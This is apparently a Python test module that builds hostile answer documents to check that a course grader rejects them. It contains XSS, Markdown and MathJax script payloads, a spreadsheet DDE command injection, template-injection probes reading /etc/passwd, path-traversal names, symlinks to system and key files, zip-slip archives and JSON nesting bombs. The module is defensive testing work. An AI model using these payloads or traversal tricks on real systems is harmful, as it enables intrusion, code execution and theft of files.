"""Answer documents that are wrong, damaged, oversized, forged or meant to be obeyed by somebody's browser."""

import io
import json
import os
import socket
import stat
import zipfile
from collections.abc import Callable
from typing import Any

from tests.hostile.case import FULL_SIZE, MATCH, NUMBER, TEXT, TOOL, WORKBOOK, Case, Scene

NO_FORM = "does not have the form of an answer"
NO_FILE = "is not an ordinary file"
ATTACKS = {
    "script in a text": "<script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\">",
    "SVG in a text": "<svg onload=\"document.title='owned'\"><script>document.title='owned'</script></svg>",
    "Markdown in a text": "[click](javascript:document.title='owned') ![x](x\"onerror=\"document.title='owned')",
    "MathJax in a text": "$\\href{javascript:document.title='owned'}{x}$ $\\style{position:fixed}{x}$",
    "spreadsheet formula in a text": '=HYPERLINK("http://example.org/?"&A1,"open") @SUM(1) +cmd|\' /C calc\'!A0',
    "template language in a text": "{{ 7*7 }} {% include '/etc/passwd' %} ${7*7} #{7*7} <%= 7*7 %>",
    "text that runs backwards": "\u202eright to left\u202c \u2066hidden\u2069 \u0000 \u001b[31mred \u0007".replace(
        "\0", ""
    ),
}
"""Texts that somebody else's program might obey. All are answers, and stay text."""


def raw(content: bytes) -> Callable[[Scene], object]:
    """The number's answer document is these bytes."""
    return lambda scene: scene.answer(NUMBER).write_bytes(content)


def number(text: str) -> Callable[[Scene], object]:
    """The number's document is this JSON."""
    return raw(text.encode())


def field(**fields: object) -> Callable[[Scene], object]:
    """The number's document with other fields."""
    return lambda scene: scene.rewrite(NUMBER, **fields)


def text(words: str) -> Callable[[Scene], object]:
    """The written answer says this."""
    return lambda scene: scene.rewrite(TEXT, answer={"text": words})


def instead(make: Callable[[Scene], object]) -> Callable[[Scene], object]:
    """Something else stands where the number's document was."""

    def harm(scene: Scene) -> None:
        scene.answer(NUMBER).unlink()
        make(scene)

    return harm


def link(target: str) -> Callable[[Scene], object]:
    """The number's document is a link; `{neighbour}` and `{keys}` are filled in."""

    def make(scene: Scene) -> None:
        keys = next((scene.course / "keys").glob(f"**/{WORKBOOK}.yaml"))
        scene.answer(NUMBER).symlink_to(target.format(neighbour=scene.neighbour, keys=keys))

    return instead(make)


def huge(scene: Scene) -> None:
    """100 MB of JSON; without full size 2 MB and a hole of 100 MB."""
    with scene.answer(NUMBER).open("wb") as file:
        file.write(b'{"schema": 1, "answer": "' + b"x" * (100_000_000 if FULL_SIZE else 2_000_000))
        file.truncate(100_000_000)


def device(scene: Scene) -> None:
    """A device without end where one may be made, a socket elsewhere."""
    try:
        os.mknod(scene.answer(NUMBER), 0o666 | stat.S_IFCHR, os.makedev(1, 5))
    except PermissionError:
        a_socket(scene)


def a_socket(scene: Scene) -> None:
    """A socket file; made elsewhere, because its name may only be short."""
    here = os.open(scene.folder / "answers", os.O_RDONLY)
    try:
        with socket.socket(socket.AF_UNIX) as made:
            made.bind(f"/proc/self/fd/{here}/{NUMBER}.json")
    finally:
        os.close(here)


def archive(scene: Scene) -> None:
    """A zip with names that climb out, in place of the document and beside it."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("../../../../escaped.json", "{}")
        made.writestr("/absolute.json", "{}")
        made.writestr("zeros", bytes(10_000_000))
    scene.answer(NUMBER).write_bytes(packed.getvalue())
    (scene.folder / "answers" / "answers.zip").write_bytes(packed.getvalue())


def copied(scene: Scene) -> None:
    """All answers are the neighbour's, byte for byte."""
    for file in (scene.neighbour / "answers").glob("*.json"):
        (scene.folder / "answers" / file.name).write_bytes(file.read_bytes())


def unknown(scene: Scene) -> None:
    """Answers to exercises that do not exist, one of them with an id as long as a name may be."""
    for name in ("m99-w1-none", "x" * 240, "m01-w1-gain.json", "..m01-w1-gain", "..\\..\\m01-w1-gain", "%2e%2e%2fkey"):
        (scene.folder / "answers" / f"{name}.json").write_text(json.dumps({"points": 100}))


def swapped(scene: Scene) -> None:
    """A document of one exercise under the name of another."""
    scene.answer(NUMBER).write_bytes(scene.answer(MATCH).read_bytes())


def hammer(scene: Scene) -> None:
    """Ten thousand choices where there are eight."""
    placed: dict[str, Any] = {f"item-{count}": "new" for count in range(10_000)}
    scene.rewrite(MATCH, answer={"placed": placed})


def broken(name: str, what: str, harm: Callable[[Scene], object], page: str, log: str = "") -> Case:
    """A case that costs the number its points and nothing else."""
    return Case(name, "answer", what, harm, lost=(NUMBER,), page=page, log=log)


DAMAGED = (
    broken("list for an answer", "the answer is a list", field(answer=[1, 2]), NO_FORM),
    broken("number for a document", "the document is a bare number", number("100"), "not an answer document"),
    broken("number for a text", "a text field holds a number", field(answer={"text": 70000}), NO_FORM),
    broken("true for a number", "the schema is `true`", field(schema=True), NO_FORM),
    broken("no answer", "the field `answer` is missing", field(answer=...), NO_FORM),
    broken("no exercise", "the field `exercise` is missing", field(exercise=...), NO_FORM),
    broken("points of one's own", "a further field gives 100 points", field(points=100, score=100), NO_FORM),
    broken(
        "forged receipt", "a receipt says the work was passed", field(receipt={"passed": True, "sign": "x"}), NO_FORM
    ),
    broken("NaN", "`NaN` where a number may be", field(schema=float("nan")), "NaN is not a number"),
    broken(
        "Infinity", "`-Infinity` in the answer", number('{"schema": 1, "answer": -Infinity}'), "Infinity is not a n"
    ),
    broken(
        "number of 10^6 digits", "a whole number of a million digits", number(f'{{"schema": {"9" * 999_000}}}'), "too"
    ),
    broken("1e999", "a number beyond all numbers", number('{"schema": 1e999}'), "number too large"),
    broken("nested 10^6 deep", "lists in lists, a million deep", number("[" * 999_999), "nested too deeply"),
    broken("nested objects", "objects in objects, 150,000 deep", number('{"a":' * 150_000), "nested too deeply"),
    broken(
        "deep inside an answer",
        "a well-formed answer, 400 deep",
        field(answer={"text": json.loads("[" * 400 + "]" * 400)}),
        NO_FORM,
    ),
    broken(
        "the same thing twice", "two fields of one name", number('{"schema": 1, "schema": 1}'), "the same thing twice"
    ),
    broken("invalid UTF-8", "bytes that are no text", raw(b'{"schema": 1, "answer": "\xff\xfe\xc3\x28"}'), "not text"),
    broken("UTF-16", "text in another encoding", raw('{"schema": 1}'.encode("utf-16")), "it is not text"),
    broken("NUL bytes", "a thousand NUL bytes", raw(bytes(1000)), "breaks off or is damaged"),
    broken("lone surrogate", "half a character in the text", number('{"schema": 1, "exercise": "\\ud800"}'), NO_FORM),
    broken("empty document", "a file without a byte", raw(b""), "it is empty"),
    broken("truncated document", "half a document", number('{"schema": 1, "exer'), "breaks off or is damaged"),
    broken("another version", "a schema of the future", field(schema=99), "written by another version of the course"),
    broken("saved never", "a time of saving that is none", field(saved="yesterday"), NO_FORM),
    broken(
        "climbing name", "the exercise is called `../../x`", field(exercise="../../../keys/m01"), "another exercise"
    ),
    broken("absolute name", "the exercise is called `/etc/passwd`", field(exercise="/etc/passwd"), "another exercise"),
    broken("wrong exercise", "a document of another exercise under this name", swapped, NO_FORM),
    broken("zip inside", "a zip in place of the document, and beside it", archive, "it is not text"),
    broken("100 MB", "a document of 100 MB", huge, "it is larger than 1000 kB", "far too large"),
)

NO_FILES = (
    broken(
        "link to an answer",
        "a link to the neighbour's answer",
        link("{neighbour}/answers/" + NUMBER + ".json"),
        NO_FILE,
        NO_FILE,
    ),
    broken("link to the keys", "a link to the authors' keys", link("{keys}"), NO_FILE, NO_FILE),
    broken("link to a system file", "a link to /etc/passwd", link("/etc/passwd"), NO_FILE, NO_FILE),
    broken("link to a device", "a link to /dev/zero", link("/dev/zero"), NO_FILE, NO_FILE),
    broken("link to itself", "a link that leads to itself", link(f"{NUMBER}.json"), NO_FILE, NO_FILE),
    broken("pipe", "a pipe nobody writes to", instead(lambda scene: os.mkfifo(scene.answer(NUMBER))), NO_FILE, NO_FILE),
    broken("device", "a device without end", instead(device), NO_FILE, NO_FILE),
    broken("socket", "a socket", instead(a_socket), NO_FILE, NO_FILE),
    broken(
        "folder for a document",
        "a folder with a file in it",
        instead(lambda scene: (scene.answer(NUMBER) / "in").mkdir(parents=True)),
        NO_FILE,
        NO_FILE,
    ),
)

ODD = (
    broken("negative number", "a negative number", field(answer={"text": "-31"}), "0 of 5"),
    broken("huge number", "a number of 60 digits", field(answer={"text": "9" * 60}), "0 of 5"),
    broken("number in words", "1e308 and NaN as typed text", field(answer={"text": "nan 1e308 inf"}), "0 of 5"),
    Case("10,000 choices", "answer", "ten thousand choices where there are eight", hammer, lost=(MATCH,), page=NO_FORM),
    Case(
        "unknown names inside",
        "answer",
        "a choice for something nobody asked",
        lambda scene: scene.rewrite(MATCH, answer={"placed": {"x": "y"}}),
        lost=(MATCH,),
    ),
    Case(
        "1 MB in one string",
        "answer",
        "a text of a million letters",
        text("x" * 1_000_000),
        page="larger than 1000 kB",
        log="too large",
    ),
    Case("900 kB in one string", "answer", "a text as long as a file may be", text("x" * 900_000), page=NO_FORM),
    Case(
        "huge inputs of a tool",
        "answer",
        "1e308 for every input of the calculator",
        lambda scene: scene.rewrite(
            TOOL, answer={"inputs": dict.fromkeys(("arpa", "gross_margin", "churn", "cac"), 1e308)}
        ),
        lost=(TOOL,),
    ),
    Case("saved in the future", "answer", "saved in the year 2999", field(saved="2999-12-31T23:59:59Z")),
    Case(
        "another learner's answers",
        "answer",
        "copies of the neighbour's answers",
        copied,
        sample="partial",
        becomes="full",
    ),
    Case("answers nobody asked for", "answer", "answers to exercises that do not exist", unknown),
)

OBEYED = tuple(
    Case(name, "answer", f"`{words[:28].replace('|', ' ')}…` in a written answer", text(words))
    for name, words in ATTACKS.items()
)

ANSWER_CASES = (*DAMAGED, *NO_FILES, *ODD, *OBEYED)
